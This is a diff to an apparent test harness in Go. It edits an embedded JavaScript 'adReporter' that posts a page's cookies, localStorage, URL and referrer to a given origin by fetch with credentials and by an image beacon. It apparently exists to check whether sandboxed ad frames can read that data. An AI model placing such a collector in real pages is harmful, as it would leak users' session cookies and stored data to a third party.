@@ -94,9 +94,10 @@ type adReport struct {
 // adReporter is the advertiser's reporting code: it sends the report to
 // its origin o with fetch (credentials included) and again as an image.
 const adReporter = `function adReport(from, o) {
-	var s = "";
+	var s = "", c;
 	try { s = JSON.stringify(localStorage); } catch (e) {}
-	var d = JSON.stringify({from: from, cookie: document.cookie, location: location.href, referrer: document.referrer, storage: s});
+	try { c = document.cookie; } catch (e) { c = "error: " + e.name; } // a sandboxed document may not read them
+	var d = JSON.stringify({from: from, cookie: c, location: location.href, referrer: document.referrer, storage: s});
 	fetch(o + "/report", {method: "POST", mode: "no-cors", credentials: "include", body: d});
 	new Image().src = o + "/px.gif?from=" + from + "&d=" + encodeURIComponent(d);
 }
